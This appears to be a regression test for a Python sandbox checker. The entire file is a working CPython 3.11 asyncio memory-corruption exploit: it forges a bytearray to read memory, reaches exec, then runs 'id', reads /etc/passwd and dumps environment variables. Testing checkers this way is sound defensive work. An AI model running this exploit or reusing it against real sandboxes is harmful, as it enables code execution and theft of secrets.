# expect: reject store
# line: 75
# why: round 84's ok03: a Future handed through a dict display's get() kept no library-made mark, and its cancel was shadowed (verified: id, /etc/passwd, os.environ under 3.11.2)
# ok03: the same primitive as ok01, with no helper function: the object goes
# through a dict display's .get() on its way to the store. The store rule's
# M_MADE mask (what a library call made) does not survive `{0: f}.get(0)`, so
# shadowed_method() sees no library-made receiver and lets `.cancel = ...` pass.
# (Two other changes keep the store rule's module mask quiet: the refill list is
# grown by `keep = keep + [...]`, not `.append`, and the forged message is read
# from `asyncio.gather(t2).exception()` rather than from an `except ... as e`,
# whose value the checker takes for "anything".)
import asyncio




class Box:
    def __init__(self):
        self.t1 = None
        self.t2 = None


class Mem:
    def __init__(self):
        self.fill = b""
        self.keep = []


box = Box()
mem_state = Mem()


def qword(v):
    return v.to_bytes(8, "little")


def no(*args):
    return False


class Refill:
    def __iter__(self):
        return self

    def __next__(self):
        mem_state.keep = mem_state.keep + [bytearray(mem_state.fill)]
        raise StopIteration


class Msg:
    __slots__ = ("a", "b", "c", "d", "e", "f", "g", "h")

    def __iter__(self):
        w2 = {0: box.t2}.get(0)
        w2.cancel = no
        box.t1.cancel(())
        return Refill()


async def second(f):
    await f


async def first(t2):
    t = asyncio.current_task()
    box.t1 = t
    t.cancel(Msg())
    await t2


async def forge(header):
    mem_state.fill = bytes(16) + header + bytes(79 - len(header))
    f = asyncio.Future()
    w = {0: f}.get(0)
    w.cancel = list
    t2 = asyncio.create_task(second(f))
    box.t2 = t2
    outer = asyncio.gather(t2)
    await asyncio.sleep(0)
    t1 = asyncio.create_task(first(t2))
    await asyncio.sleep(0)
    await asyncio.sleep(0)
    f.set_result(1)
    await asyncio.sleep(0)
    await asyncio.sleep(0)
    await asyncio.wait([outer])
    return outer.exception().args[0]


async def main():
    mem = await forge(qword(1000) + qword(id(bytearray)) + qword(2 ** 62) + qword(2 ** 62)
                      + qword(0) + qword(0) + qword(1))
    print("forged:", type(mem), len(mem))
    where = int.from_bytes(mem[id(no) + 24:id(no) + 32], "little")
    print("builtins dict at", hex(where))
    holder = await forge(qword(1000) + qword(id(tuple)) + qword(1) + qword(where))
    table = holder[0]
    run = table["exec"]
    run("import os; os.system('id'); print(open('/etc/passwd').read()[:200]); print(dict(os.environ))")


asyncio.run(main())
